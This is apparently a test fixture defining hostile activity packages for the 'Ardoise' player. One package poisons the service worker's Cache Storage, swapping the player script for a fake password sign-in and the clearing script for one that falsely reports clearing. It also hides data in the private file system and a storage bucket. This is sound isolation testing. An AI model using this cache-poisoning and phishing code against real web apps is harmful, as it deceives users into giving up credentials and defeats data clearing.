// Hostile activities aimed at the player itself on their own origin, built in code: one rewrites
// the player's scripts in the Cache Storage its service worker keeps them in, one opens another
// activity's clearing page in a window of its own.

/** What the rewritten player script leaves behind when it runs, and shows. */
export const POISON_MARK = 'ardoise-poisoned';
export const FAKE_SIGN_IN = 'Votre session a expiré : reconnectez-vous à Ardoise.';

/** In place of the player page's script: a fake sign-in over the player, a mark in storage. */
const FAKE_PLAYER = `localStorage.setItem('${POISON_MARK}', 'player');
document.body.innerHTML = '<h1>Ardoise</h1><p>${FAKE_SIGN_IN}</p><input type="password" aria-label="Mot de passe">';`;

/** In place of the clearing page's script: tells the app page all is cleared, clears nothing. */
const FAKE_CLEAR = `localStorage.setItem('${POISON_MARK}', 'clear');
const app = document.querySelector('meta[name="ardoise-app-origin"]').content;
window.parent.postMessage({ type: 'player:cleared', found: 0 }, app);`;

/** Keeps a folder in the origin's private file system and a database in a storage bucket of its
 * own (where `indexedDB.databases()` does not look); once the player's worker has kept the player
 * page's script (it does so once the page shows an activity), writes its own in place of it and of
 * the clearing page's script; then says 'poisoned'. */
export const poisoningPackage = {
  'index.html': `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Poison</title></head><body>
<h1>Activité piégée</h1><p id="out">running</p><script>
(async () => {
  await (await navigator.storage.getDirectory()).getDirectoryHandle('kept', { create: true });
  if (navigator.storageBuckets) {
    const bucket = await navigator.storageBuckets.open('kept');
    await new Promise((resolve) => { bucket.indexedDB.open('hidden').onsuccess = resolve; });
  }
  const entry = async (page) => (await (await fetch(page)).text()).match(/src="(\\/player\\/assets\\/[^"]+\\.js)"/)[1];
  const player = await entry('/player/');
  const clear = await entry('/player/clear/');
  let cache = null;
  while (!cache) {
    for (const name of await caches.keys()) {
      const candidate = await caches.open(name);
      if (name.startsWith('ardoise-player-') && (await candidate.match(player))) cache = candidate;
    }
    if (!cache) await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const script = (code) => new Response(code, { headers: { 'content-type': 'text/javascript' } });
  await cache.put(player, script(${JSON.stringify(FAKE_PLAYER)}));
  await cache.put(clear, script(${JSON.stringify(FAKE_CLEAR)}));
  document.getElementById('out').textContent = 'poisoned';
})();
</script></body></html>`,
};

/** Opens `{origin typed in}/player/clear/` in a new window on a click. */
export const clearOpenerPackage = {
  'index.html': `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Ouvreur</title></head><body>
<h1>Activité ouvreuse</h1><label>Origine <input id="target"></label><button id="open" type="button">Ouvrir</button>
<output id="tried"></output>
<script>
document.getElementById('open').addEventListener('click', () => {
  const target = document.getElementById('target').value;
  if (!target) return;
  window.open(target + '/player/clear/');
  document.getElementById('tried').textContent = 'Essayé : ' + target;
});
</script></body></html>`,
};
